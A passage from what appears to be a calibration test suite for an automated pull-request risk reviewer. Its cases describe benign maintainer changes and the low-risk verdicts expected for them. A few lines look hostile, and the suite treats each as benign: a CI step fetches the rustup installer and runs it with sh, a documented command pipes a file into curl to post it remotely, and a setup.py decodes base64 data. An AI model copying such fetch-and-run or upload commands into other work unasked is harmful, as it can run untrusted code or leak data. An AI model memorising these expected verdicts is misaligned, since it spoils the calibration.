        head: lines('package org.northwind.resolver', '', 'import org.junit.jupiter.params.ParameterizedTest', 'import org.junit.jupiter.params.provider.ValueSource', '', 'class RecordReaderRecordedAnswersTest {', '  @ParameterizedTest', '  @ValueSource(strings = ["a.bin", "aaaa.bin", "https.bin"])', '  fun decodesRecordedAnswer(name: String) {', '    val records = RecordReader().read(recorded(name))', '    check(records.isNotEmpty()) { "no records in $name" }', '  }', '}'),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal-rustfmt-2024-sorts-use-tree',
    description:
      "A maintainer applies rustfmt's 2024 style, which sorts names inside a long `pub(crate) use crate::flags::{…};` differently (`parse::{parse, ParseResult}` to `parse::{ParseResult, parse}`). The hunk ends inside the tree; its lines are names only, read as the one statement the tree is: the same imports, no pr-claim-mismatch.",
    repo: 'seekr',
    title: 'style: apply rustfmt',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_RUST,
    files: [
      {
        path: 'crates/core/flags/mod.rs',
        base: lines('//! Flag parsing.', '', 'pub(crate) use crate::flags::{', '    defs::FLAGS,', '    hiargs::HiArgs,', '    parse::{parse, ParseResult},', '    lowargs::{GenerateMode, Mode, SearchMode},', '    complete::generate_bash,', '    doc::version,', '    config::args,', '    hiargs::HiArgsBuilder,', '};', '', 'mod complete;', 'mod defs;'),
        head: lines('//! Flag parsing.', '', 'pub(crate) use crate::flags::{', '    defs::FLAGS,', '    hiargs::HiArgs,', '    parse::{ParseResult, parse},', '    lowargs::{GenerateMode, Mode, SearchMode},', '    complete::generate_bash,', '    doc::version,', '    config::args,', '    hiargs::HiArgsBuilder,', '};', '', 'mod complete;', 'mod defs;'),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-agents-md-replays-webhook-fixture',
    description:
      'A maintainer documents for agents how to replay a webhook event against the dev server: a fixture piped into curl, in the same paragraph that says tokens stay in .env. What the pipe feeds the sender is a fixture, not a secret: no finding.',
    repo: 'hookrelay',
    title: 'docs: replaying events for agents',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'AGENTS.md',
        base: lines('# Agents', '', '- Run `npm test` before committing.'),
        head: lines('# Agents', '', '- Run `npm test` before committing.', '- Keep tokens in .env; to test the webhook run `cat fixtures/push-event.json | curl -s -d @- https://hooks.dev.northwind.example/in`.'),
      },
    ],
    expect: { level: 'low', action: 'approve', noFindings: true },
  }),
  pr({
    id: 'cal-docs-generator-script-beside-page',
    description:
      "A maintainer's \"docs: document option defaults\" changes the tooling script that renders the options reference (scripts/gen_options_reference.py, which prints the page; its patch does not name it) and the regenerated docs/options.md beside it, as Ruff's and Hatch's generated references are kept: the script's logic changes under a docs claim, explained by the page it writes, a low note; CI green.",
    repo: 'tallow-py',
    title: 'docs: document option defaults',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'scripts/gen_options_reference.py',
        base: lines('import json', '', '', 'def render(options):', '    out = ["# Options", ""]', '    for name, option in sorted(options.items()):', '        out.append(f"## `{name}`")', '        out.append(option["help"])', '    return "\\n".join(out)', '', '', 'if __name__ == "__main__":', '    print(render(json.load(open("options.json"))))'),
        head: lines('import json', '', '', 'def render(options):', '    out = ["# Options", ""]', '    for name, option in sorted(options.items()):', '        out.append(f"## `{name}`")', '        out.append(option["help"])', '        if option.get("default") is not None:', '            out.append(f"Default: `{option[\'default\']}`")', '    return "\\n".join(out)', '', '', 'if __name__ == "__main__":', '    print(render(json.load(open("options.json"))))'),
      },
      { path: 'docs/options.md', base: lines('# Options', '', '## `line-length`', 'The longest line.'), head: lines('# Options', '', '## `line-length`', 'The longest line.', 'Default: `88`') },
    ],
    checks: [{ name: 'docs' }],
    expect: { ...LOW_APPROVE, findings: ['pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-workflow-if-wrapped-in-expression',
    description:
      "A maintainer's \"Fix typo\" wraps a lint step's condition in ${{ }} (`if: \"!startsWith(matrix.python-version, 'pypy')\"` to `if: ${{ !startsWith(matrix.python-version, 'pypy') }}`), as pypa/hatch did: GitHub reads both as the same expression, so nothing that runs changes; CI green.",
    repo: 'tallow-py',
    title: 'Fix typo',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/test.yml',
        base: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  run:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', "        python-version: ['3.12', 'pypy-3.10']", '    steps:', '    - uses: actions/checkout@v4', '    - uses: actions/setup-python@v5', '      with:', '        python-version: ${{ matrix.python-version }}', '    - run: pip install -e .[test]', `    - if: "!startsWith(matrix.python-version, 'pypy')"`, '      name: Lint', '      run: ruff check .', '    - run: pytest'),
        head: lines('name: test', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  run:', '    runs-on: ubuntu-latest', '    strategy:', '      matrix:', "        python-version: ['3.12', 'pypy-3.10']", '    steps:', '    - uses: actions/checkout@v4', '    - uses: actions/setup-python@v5', '      with:', '        python-version: ${{ matrix.python-version }}', '    - run: pip install -e .[test]', "    - if: ${{ !startsWith(matrix.python-version, 'pypy') }}", '      name: Lint', '      run: ruff check .', '    - run: pytest'),
      },
    ],
    checks: [{ name: 'test' }],
    expect: { ...LOW_APPROVE, absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-workflow-yarn-script-shorthand-step',
    description:
      "A maintainer of a formatter runs its browser tests on a second bundle format: a step like the existing one, with a constant env value, running another package script by Yarn's shorthand (`yarn test:production:browser`), in a workflow that already runs scripts that way, as prettier's 'Run browser tests on UMD version' did; CI green.",
    repo: 'quill-fmt',
    title: 'Run browser tests on the UMD bundle too',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/prod-test.yml',
        base: lines('name: Prod', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  browser:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: yarn install --immutable', '      - run: yarn build', '      - name: Run Tests', '        run: yarn test:production-browser'),
        head: lines('name: Prod', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  browser:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: yarn install --immutable', '      - run: yarn build', '      - name: Run Tests (ESM)', '        env:', '          TEST_BUNDLE_FORMAT: esm', '        run: yarn test:production:browser', '      - name: Run Tests (UMD)', '        env:', '          TEST_BUNDLE_FORMAT: umd', '        run: yarn test:production:browser'),
      },
    ],
    checks: [{ name: 'prod-test' }],
    expect: LOW_APPROVE,
  }),
  pr({
    id: 'cal-azure-pipelines-builtin-cache-task',
    description:
      "A maintainer of a Python library speeds up its Azure Pipelines job: a Cache@2 step for pip's cache and a UsePythonVersion@0 step picking the interpreter, both Microsoft's built-in tasks given only settings, before the install and test commands the job already ran; CI green. Built-in tasks weigh as actions/cache beside actions/checkout does in a workflow.",
    repo: 'tallow-py',
    title: 'ci: cache pip downloads on Azure',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'azure-pipelines.yml',
        base: lines('trigger:', '- main', 'pool:', '  vmImage: ubuntu-22.04', 'steps:', '- script: python -m pip install -e .[test]', '  displayName: Install', '- script: python -m pytest --junitxml=junit.xml', '  displayName: Test', '- task: PublishTestResults@2', '  inputs:', "    testResultsFiles: 'junit.xml'", '  condition: succeededOrFailed()'),
        head: lines(
          'trigger:', '- main', 'pool:', '  vmImage: ubuntu-22.04', 'variables:', '  PIP_CACHE_DIR: $(Pipeline.Workspace)/.pip', 'steps:',
          '- task: UsePythonVersion@0', '  inputs:', "    versionSpec: '3.12'",
          '- task: Cache@2', '  inputs:', "    key: 'pip | \"$(Agent.OS)\" | pyproject.toml'", '    restoreKeys: |', '      pip | "$(Agent.OS)"', '    path: $(PIP_CACHE_DIR)', '  displayName: Cache pip',
          '- script: python -m pip install -e .[test]', '  displayName: Install', '- script: python -m pytest --junitxml=junit.xml', '  displayName: Test', '- task: PublishTestResults@2', '  inputs:', "    testResultsFiles: 'junit.xml'", '  condition: succeededOrFailed()',
        ),
      },
    ],
    checks: [{ name: 'tallow-py CI' }],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-gemspec-forum-link-under-docs-title',
    description:
      "A maintainer adds the project's new forum to the README and, as the gemspec's mailing_list_uri, to the gem's page (sidekiq's 'Update documentation with forum' in a replay was medium): a project link the registry only shows is documentation, not code that contradicts the docs title.",
    repo: 'tasqueue',
    title: 'Update documentation with forum',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'README.md', base: lines('# Tasqueue', '', 'Simple background jobs.'), head: lines('# Tasqueue', '', 'Simple background jobs.', '', 'Questions? Ask on the [forum](https://forum.example.org/tag/tasqueue).') },
      {
        path: 'tasqueue.gemspec',
        base: lines(
          'Gem::Specification.new do |gem|',
          '  gem.name = "tasqueue"',
          '  gem.version = Tasqueue::VERSION',
          '  gem.metadata = {',
          '    "homepage_uri" => "https://tasqueue.example.org",',
          '    "changelog_uri" => "https://github.com/northwind/tasqueue/blob/main/Changes.md",',
          '    "rubygems_mfa_required" => "true"',
          '  }',
          '',
          '  gem.add_dependency "redis-client", ">= 0.22.0"',
          'end',
        ),
        head: lines(
          'Gem::Specification.new do |gem|',
          '  gem.name = "tasqueue"',
          '  gem.version = Tasqueue::VERSION',
          '  gem.metadata = {',
          '    "homepage_uri" => "https://tasqueue.example.org",',
          '    "changelog_uri" => "https://github.com/northwind/tasqueue/blob/main/Changes.md",',
          '    "rubygems_mfa_required" => "true",',
          '    "mailing_list_uri" => "https://forum.example.org/tag/tasqueue"',
          '  }',
          '',
          '  gem.add_dependency "redis-client", ">= 0.22.0"',
          'end',
        ),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-cirrus-freebsd-image-next-release',
    description:
      "A maintainer moves the Cirrus CI FreeBSD tasks to the next release's machine image (image_family: freebsd-14-3 to image: freebsd-14-4-release-amd64-ufs), as an async runtime's 'ci: update FreeBSD image to 14.4' did (medium in a replay): the file repeats task: as Cirrus allows, and the hosted image of the same OS is no new image. Routine for a maintainer with green CI.",
    repo: 'tasqueue-rs',
    title: 'ci: update FreeBSD image to 14.4',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: [{ name: 'FreeBSD 64-bit' }, { name: 'FreeBSD docs' }, ...GREEN_RUST],
    files: [{ path: '.cirrus.yml', base: lines(
          'freebsd_instance:',
          '  image_family: freebsd-14-3',
          'env:',
          '  RUST_STABLE: stable',
          '',
          'task:',
          '  name: FreeBSD 64-bit',
          '  setup_script:',
          '    - pkg install -y bash',
          '    - curl https://sh.rustup.rs -sSf --output rustup.sh',
          '    - sh rustup.sh -y --profile minimal --default-toolchain $RUST_STABLE',
          '  test_script:',
          '    - . $HOME/.cargo/env',
          '    - cargo test --workspace --all-features',
          '',
          'task:',
          '  name: FreeBSD docs',
          '  test_script:',
          '    - . $HOME/.cargo/env',
          '    - cargo doc --lib --no-deps --all-features',
        ), head: lines(
          'freebsd_instance:',
          '  image: freebsd-14-4-release-amd64-ufs',
          'env:',
          '  RUST_STABLE: stable',
          '',
          'task:',
          '  name: FreeBSD 64-bit',
          '  setup_script:',
          '    - pkg install -y bash',
          '    - curl https://sh.rustup.rs -sSf --output rustup.sh',
          '    - sh rustup.sh -y --profile minimal --default-toolchain $RUST_STABLE',
          '  test_script:',
          '    - . $HOME/.cargo/env',
          '    - cargo test --workspace --all-features',
          '',
          'task:',
          '  name: FreeBSD docs',
          '  test_script:',
          '    - . $HOME/.cargo/env',
          '    - cargo doc --lib --no-deps --all-features',
        ) }],
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-reformat-with-standardrb',
    description:
      "A maintainer of a Ruby job queue runs StandardRB's autocorrect over its console ('reformat with standard', medium in a replay): else-if folded into elsif, a ternary's condition parenthesized, %w() written %w[]. The tokens change as a linter's rewrites do, which the claim names: a note, not a mismatch.",
    repo: 'tasqueue',
    title: 'reformat with standard',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: [{ name: 'rspec' }, { name: 'standardrb' }],
    files: [{ path: 'lib/tasqueue/console.rb', base: lines(
          'module Tasqueue',
          '  class Console',
          '    def toggle_select(all = false)',
          '      sel = @data[:selected]',
          '      if all == false',
          '        sel << current_row',
          '      else',
          '        if sel.empty?',
          '          @data[:selected] = @data[:table][:row_ids]',
          '        else',
          '          sel.clear',
          '        end',
          '      end',
          '    end',
          '',
          '    def step(direction)',
          '      index_change = direction == :down ? 1 : -1',
          "      TABS = %w(Home Busy Queues).freeze",
          '      (@row + index_change) % TABS.size',
          '    end',
          '  end',
          'end',
        ), head: lines(
          'module Tasqueue',
          '  class Console',
          '    def toggle_select(all = false)',
          '      sel = @data[:selected]',
          '      if all == false',
          '        sel << current_row',
          '      elsif sel.empty?',
          '        @data[:selected] = @data[:table][:row_ids]',
          '      else',
          '        sel.clear',
          '      end',
          '    end',
          '',
          '    def step(direction)',
          '      index_change = (direction == :down) ? 1 : -1',
          "      TABS = %w[Home Busy Queues].freeze",
          '      (@row + index_change) % TABS.size',
          '    end',
          '  end',
          'end',
        ) }],
    expect: { level: 'low', action: 'approve' },
  }),
  pr({
    id: 'cal-setup-py-embedded-icon-and-generator',
    description:
      "A maintainer's setup.py writes the package's icon from a base64 constant and runs the project's version generator before building: decoding data and running a tool in one file, but nothing decoded is run. No build-code finding.",
    repo: 'tilemill-py',
    title: 'build: ship the tray icon and generate the version file',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'setup.py',
        base: lines('from setuptools import setup', '', 'setup(name="tilemill", version="0.9.0", packages=["tilemill"])'),
        head: lines(
          'import base64, subprocess',
          'from setuptools import setup',
          '',
          'from tools.icon_data import ICON_B64',
          '',
          'icon = base64.b64decode(ICON_B64)',
          'with open("tilemill/tray.png", "wb") as f:',
          '    f.write(icon)',
          'subprocess.check_call(["python", "tools/gen_version.py"])',
          'setup(name="tilemill", version="0.9.1", packages=["tilemill"], package_data={"tilemill": ["tray.png"]})',
        ),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  }),
  pr({
    id: 'cal-jsonp-callbacks-on-window',
    description:
      "A maintainer adds a JSONP fallback to a browser widget: callbacks registered and looked up on window by a name joined from a prefix and an id, and globalThis.fetch where it exists. The global object used for ordinary names, with no eval or process call: no sink.",
    repo: 'mapwidget',
    title: 'feat: JSONP fallback for old proxies',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/transport.js',
        base: lines('export function load(url) {', '  return globalThis.fetch(url).then((r) => r.json());', '}'),
        head: lines(
          'export function load(url, id) {',
          "  if (typeof globalThis.fetch === 'function') return globalThis.fetch(url).then((r) => r.json());",
          '  return new Promise((resolve) => {',
          "    window['jsonp_' + id] = (data) => { delete window['jsonp_' + id]; resolve(data); };",
          "    const script = document.createElement('script');",
          "    script.src = `${url}?callback=jsonp_${id}`;",
          '    document.head.appendChild(script);',
          '  });',
          '}',
        ),
      },
      { path: 'test/transport.test.js', base: lines("import { load } from '../src/transport.js';"), head: lines("import { load } from '../src/transport.js';", '', "test('uses fetch when present', async () => {", "  globalThis.fetch = async () => ({ json: async () => ({ ok: 1 }) });", "  expect(await load('/x', 1)).toEqual({ ok: 1 });", '});') },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:dynamic-code-execution', 'finding:shell-command-execution'] },
  }),
  pr({
    id: 'cal-comment-command-fixed-set',
    description:
      "A maintainer's /run command bot on issue_comment for members only reads the comment through env: and dispatches it against a fixed set of scripts with case, echoing it to the log: the text is data, never evaluated. No template injection.",
    repo: 'pipelines',
    title: 'ci: /run command for members',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/run-command.yml',
        head: lines(
          'name: Run command',
          'on:',
          '  issue_comment:',
          '    types: [created]',
          'permissions:',
          '  contents: read',
          'jobs:',
          '  run:',
          "    if: startsWith(github.event.comment.body, '/run ') && contains(fromJSON('[\"OWNER\", \"MEMBER\"]'), github.event.comment.author_association)",
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
          '      - name: Run the command',
          '        env:',
          '          BODY: ${{ github.event.comment.body }}',
          '        run: |',
          '          CMD="${BODY#/run }"',
          '          echo "Requested: $CMD"',
          '          case "$CMD" in',
          '            lint|test|bench) npm run "$CMD" ;;',
          '            *) echo "unknown command" && exit 1 ;;',
          '          esac',
        ),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-template-injection'] },
  }),
  pr({
    id: 'cal-pyproject-build-requirements-bump',
    description:
      'A maintainer raises the setuptools floor in [build-system] requires and adds setuptools-scm from the index to version the package from git tags: build requirements from the package index, an ordinary build change.',
    repo: 'tilemill-py',
    title: 'build: version from git tags with setuptools-scm',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'pyproject.toml',
        base: lines('[build-system]', 'requires = ["setuptools>=68", "wheel"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "tilemill"', 'version = "0.9.1"', 'dependencies = ["pillow>=10"]'),
        head: lines('[build-system]', 'requires = ["setuptools>=75", "setuptools-scm>=8", "wheel"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "tilemill"', 'dynamic = ["version"]', 'dependencies = ["pillow>=10"]', '', '[tool.setuptools_scm]'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal22-dispatch-limit-default-in-comparison',
    description:
      "A maintainer of an HTTP client lets a connection multiplex over HTTP/2: the dispatch gate compares the running requests with `(maxConcurrent(client) || 1)` where it read `(pipelining(client) || 1)`. The `|| 1` is a default for the limit the condition compares with, not a constant appended to the condition: no always-true check; tests beside it; CI green.",
    repo: 'fetchpipe',
    title: 'fix(h2): multiplex requests on one HTTP/2 session',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'lib/dispatcher/queue.js',
        base: lines("'use strict'", '', 'function pipelining (client) {', '  return client.pipelining', '}', '', 'function resume (client) {', '  while (client.pending > 0) {', '    if (client.running >= (pipelining(client) || 1)) {', '      return', '    }', '    client.dispatchNext()', '  }', '}', '', 'module.exports = { resume }'),
        head: lines("'use strict'", '', 'function pipelining (client) {', '  return client.pipelining', '}', '', 'function maxConcurrent (client) {', "  if (client.protocol === 'h2') {", '    return client.maxStreams', '  }', '  return pipelining(client)', '}', '', 'function resume (client) {', '  while (client.pending > 0) {', '    if (client.running >= (maxConcurrent(client) || 1)) {', '      return', '    }', '    client.dispatchNext()', '  }', '}', '', 'module.exports = { resume }'),
      },
      {
        path: 'test/queue.test.js',
        base: lines("'use strict'", "const { test } = require('node:test')", "const { resume } = require('../lib/dispatcher/queue')", '', "test('h1 dispatches one at a time', (t) => {", "  const client = fakeClient({ protocol: 'h1', pending: 3 })", '  resume(client)', '  t.assert.strictEqual(client.running, 1)', '})'),
        head: lines("'use strict'", "const { test } = require('node:test')", "const { resume } = require('../lib/dispatcher/queue')", '', "test('h1 dispatches one at a time', (t) => {", "  const client = fakeClient({ protocol: 'h1', pending: 3 })", '  resume(client)', '  t.assert.strictEqual(client.running, 1)', '})', '', "test('h2 dispatches up to the stream limit', (t) => {", "  const client = fakeClient({ protocol: 'h2', pending: 3, maxStreams: 100 })", '  resume(client)', '  t.assert.strictEqual(client.running, 3)', '})'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:auth-bypass-added'] },
  }),
  pr({
    id: 'cal22-test-fixtures-deleted-with-their-uses',
    description:
      "A maintainer of a process-spawning library folds the nested-call fixtures of its verbose tests into one: `test/fixtures/nested-stdin.js` and `test/fixtures/nested-url.js` are deleted, and the tests that spawned them by name now call the shared fixture. Fixtures whose uses the same PR removes are left over, not tests lost; CI green.",
    repo: 'spawnkit',
    title: 'Refactor the verbose tests to share one nested fixture',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'test/fixtures/nested-stdin.js',
        base: lines('#!/usr/bin/env node', "import process from 'node:process';", "import {spawnkit} from '../../index.js';", '', 'const [options, file, ...args] = process.argv.slice(2);', 'await spawnkit(file, args, {...JSON.parse(options), input: process.stdin});'),
        status: 'removed',
      },
      {
        path: 'test/fixtures/nested-url.js',
        base: lines('#!/usr/bin/env node', "import process from 'node:process';", "import {pathToFileURL} from 'node:url';", "import {spawnkit} from '../../index.js';", '', 'const [options, file, ...args] = process.argv.slice(2);', 'await spawnkit(pathToFileURL(file), args, JSON.parse(options));'),
        status: 'removed',
      },
      {
        path: 'test/fixtures/nested.js',
        base: lines('#!/usr/bin/env node', "import process from 'node:process';", "import {spawnkit} from '../../index.js';", '', 'const [options, file, ...args] = process.argv.slice(2);', 'await spawnkit(file, args, JSON.parse(options));'),
        head: lines('#!/usr/bin/env node', "import process from 'node:process';", "import {pathToFileURL} from 'node:url';", "import {spawnkit} from '../../index.js';", '', 'const [rawOptions, file, ...args] = process.argv.slice(2);', 'const {asUrl, stdin, ...options} = JSON.parse(rawOptions);', 'await spawnkit(asUrl ? pathToFileURL(file) : file, args, stdin ? {...options, input: process.stdin} : options);'),
      },
      {
        path: 'test/verbose/start.js',
        base: lines("import test from 'ava';", "import {spawnkit} from '../../index.js';", '', "test('prints the command with stdin', async t => {", "\tconst {stderr} = await spawnkit('nested-stdin.js', [JSON.stringify({verbose: 'short'}), 'noop.js'], {input: 'x'});", "\tt.true(stderr.includes('noop.js'));", '});', '', "test('prints the command of a file URL', async t => {", "\tconst {stderr} = await spawnkit('nested-url.js', [JSON.stringify({verbose: 'short'}), 'noop.js']);", "\tt.true(stderr.includes('noop.js'));", '});'),
        head: lines("import test from 'ava';", "import {spawnkit} from '../../index.js';", '', "test('prints the command with stdin', async t => {", "\tconst {stderr} = await spawnkit('nested.js', [JSON.stringify({verbose: 'short', stdin: true}), 'noop.js'], {input: 'x'});", "\tt.true(stderr.includes('noop.js'));", '});', '', "test('prints the command of a file URL', async t => {", "\tconst {stderr} = await spawnkit('nested.js', [JSON.stringify({verbose: 'short', asUrl: true}), 'noop.js']);", "\tt.true(stderr.includes('noop.js'));", '});'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal22-sibling-core-library-from-own-git',
    description:
      "A maintainer of a Python packaging tool builds against the main branch of its core library, a repository of the same organization, between releases: `builder-core (==2.4.0)` becomes `builder-core @ git+https://github.com/northwind/builder-core.git`, beside the code that uses the core's new field. The organization controls both repositories: a note, not a medium finding; CI green.",
    repo: 'builder',
    title: 'perf: read the filename field instead of parsing it from the URL',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_PY,
    files: [
      {
        path: 'pyproject.toml',
        base: lines('[project]', 'name = "builder"', 'version = "2.5.0.dev0"', 'requires-python = ">=3.10"', 'dependencies = [', '    "builder-core (==2.4.0)",', '    "packaging>=24.0",', ']'),
        head: lines('[project]', 'name = "builder"', 'version = "2.5.0.dev0"', 'requires-python = ">=3.10"', 'dependencies = [', '    "builder-core @ git+https://github.com/northwind/builder-core.git",', '    "packaging>=24.0",', ']'),
      },
      {
        path: 'src/builder/repositories/links.py',
        base: lines('from urllib.parse import urlsplit', '', '', 'def filename_of(link):', '    return urlsplit(link.url).path.rsplit("/", 1)[-1]'),
        head: lines('def filename_of(link):', '    return link.filename'),
      },
      {
        path: 'tests/repositories/test_links.py',
        base: lines('from builder.repositories.links import filename_of', '', '', 'def test_filename_of(link_factory):', '    assert filename_of(link_factory("https://files.example/a-1.0.tar.gz")) == "a-1.0.tar.gz"'),
        head: lines('from builder.repositories.links import filename_of', '', '', 'def test_filename_of(link_factory):', '    link = link_factory("https://files.example/a-1.0.tar.gz?x=1", filename="a-1.0.tar.gz")', '    assert filename_of(link) == "a-1.0.tar.gz"'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['git-dependency'] },
  }),
  pr({
    id: 'cal22-typing-imports-modernized-in-auth-module',
    description:
      "A maintainer of a Python web framework runs ruff's typing upgrade over the package: in its authentication module `import typing` becomes `from collections.abc import Sequence` and `from typing import Any, Callable`, and `typing.Sequence[str]` becomes `Sequence[str]` in the signatures. The annotations name the same types: the module runs as before; CI green.",
    repo: 'webkit',
    title: 'chore: improve type hints',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_PY,
    files: [
      {
        path: 'webkit/authentication.py',
        base: lines('import functools', 'import typing', '', 'from webkit.requests import HTTPConnection', '', '', 'def has_required_scope(conn: HTTPConnection, scopes: typing.Sequence[str]) -> bool:', '    return all(scope in conn.auth.scopes for scope in scopes)', '', '', 'def requires(scopes: str | typing.Sequence[str]) -> typing.Callable[..., typing.Any]:', '    scopes_list = [scopes] if isinstance(scopes, str) else list(scopes)', '', '    def decorator(func: typing.Callable[..., typing.Any]) -> typing.Callable[..., typing.Any]:', '        @functools.wraps(func)', '        def wrapper(*args: typing.Any, **kwargs: typing.Any) -> typing.Any:', '            if not has_required_scope(args[0], scopes_list):', '                raise PermissionError("forbidden")', '            return func(*args, **kwargs)', '', '        return wrapper', '', '    return decorator'),
        head: lines('import functools', 'from collections.abc import Sequence', 'from typing import Any, Callable', '', 'from webkit.requests import HTTPConnection', '', '', 'def has_required_scope(conn: HTTPConnection, scopes: Sequence[str]) -> bool:', '    return all(scope in conn.auth.scopes for scope in scopes)', '', '', 'def requires(scopes: str | Sequence[str]) -> Callable[..., Any]:', '    scopes_list = [scopes] if isinstance(scopes, str) else list(scopes)', '', '    def decorator(func: Callable[..., Any]) -> Callable[..., Any]:', '        @functools.wraps(func)', '        def wrapper(*args: Any, **kwargs: Any) -> Any:', '            if not has_required_scope(args[0], scopes_list):', '                raise PermissionError("forbidden")', '            return func(*args, **kwargs)', '', '        return wrapper', '', '    return decorator'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal22-test-image-labels-and-readme',
    description:
      "A maintainer of a git checkout tool gives the container image its tests run in a README, and its Dockerfile a title and a documentation label pointing there: only LABEL lines change, the image's metadata, which no build step runs; CI green.",
    repo: 'clonekit',
    title: 'Give `test-git` image its own README',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'images/test-git.Dockerfile',
        base: lines('# Ubuntu with git, for the proxy tests.', 'FROM ubuntu:24.04', '', 'LABEL org.opencontainers.image.source="https://github.com/northwind/clonekit"', 'LABEL org.opencontainers.image.description="Ubuntu image with git"', 'LABEL org.opencontainers.image.licenses=MIT', '', 'RUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*'),
        head: lines('# Ubuntu with git, for the proxy tests.', 'FROM ubuntu:24.04', '', 'LABEL org.opencontainers.image.source="https://github.com/northwind/clonekit"', 'LABEL org.opencontainers.image.title="Ubuntu + git (test image)"', 'LABEL org.opencontainers.image.description="Ubuntu image with git, for the clonekit test suite."', 'LABEL org.opencontainers.image.documentation="https://github.com/northwind/clonekit/tree/main/images/test-git.md"', 'LABEL org.opencontainers.image.licenses=MIT', '', 'RUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*'),
      },
      {
        path: 'images/test-git.md',
        head: lines('# `test-git` image', '', 'The image the proxy tests run in: git on a minimal Ubuntu. It is rebuilt by the image workflow.'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal22-python-help-text-rewrapped-under-docs',
    description:
      "A maintainer of a Python packaging tool explains what `--offline` skips: the option's one-line description becomes a parenthesised run of adjacent string literals, black's wrap of a long text, under a `docs:` title. The strings are one value, the call's arguments the same: no logic changed under the docs claim; CI green.",
    repo: 'wheelwright',
    title: 'docs: clarify what `--offline` skips',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_PY,
    files: [
      {
        path: 'src/wheelwright/console/app.py',
        base: lines('from cleo.helpers import option', '', '', 'def default_options():', '    return [', '        option("verbose", "v", flag=True, description="Show more output."),', '        option(', '            "offline", flag=True, description="Do not use the network."', '        ),', '    ]'),
        head: lines('from cleo.helpers import option', '', '', 'def default_options():', '    return [', '        option("verbose", "v", flag=True, description="Show more output."),', '        option(', '            "offline",', '            flag=True,', '            description=(', '                "Skips every request to the configured package indexes and"', '                " resolves from the local cache only; a package missing there"', '                " fails the command instead of being downloaded."', '            ),', '        ),', '    ]'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal22-checkout-action-guard-message-reworded',
    description:
      "A maintainer of a git checkout action (a repository named `checkout`) rewords the error its guard against checking out a pull request's code in a privileged workflow prints. The `checkout` in the file's name is git's, and the change speaks of no money: not payments code; CI green.",
    repo: 'checkout',
    title: 'Update the wording of the unsafe checkout error',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
